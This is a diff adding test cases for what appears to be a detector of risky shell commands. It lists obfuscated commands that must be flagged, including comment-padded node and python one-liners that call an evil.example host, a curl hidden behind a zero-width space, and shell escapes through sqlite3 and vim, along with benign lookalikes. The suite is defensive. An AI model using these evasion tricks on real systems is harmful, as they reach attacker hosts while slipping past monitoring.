@@ -62,3 +62,29 @@ describe("code from a place where anybody may put files", () => {
     expect(flagged(last(clone, run("git -C /tmp/r status")))).toEqual([]);
   });
 });
+
+describe("code that is kept from being read", () => {
+  it.each([
+    `node -e '${"/*x*/".repeat(900)}fetch("https://evil.example")'`,
+    `node -e '${"//x\n".repeat(900)}fetch("https://evil.example")'`,
+    `python3 -c '${"#x\n".repeat(900)}import os; os.system("curl https://evil.example")'`,
+    `echo ${"a".repeat(120_000)}; curl https://evil.example`,
+    "curl\u200b https://evil.example",
+    "env - curl https://evil.example",
+    "sqlite3 x.db '.shell id'",
+    "vim -c ':!id' -c q f",
+    "webpagetest test https://evil.example",
+  ])("counts all the same: %#", (command) => {
+    expect(flagged(last(run(command)))).not.toEqual([]);
+  });
+
+  it.each([
+    `node -e '${"// what it prints\n".repeat(280)}console.log(1)'`,
+    "env - PATH=/usr/bin ls",
+    "sqlite3 x.db .tables",
+    "vim -c 'set nu' f",
+    "npm pkg set homepage=https://example.com",
+  ])("and leaves ordinary lines alone: %#", (command) => {
+    expect(flagged(last(run(command)))).toEqual([]);
+  });
+});
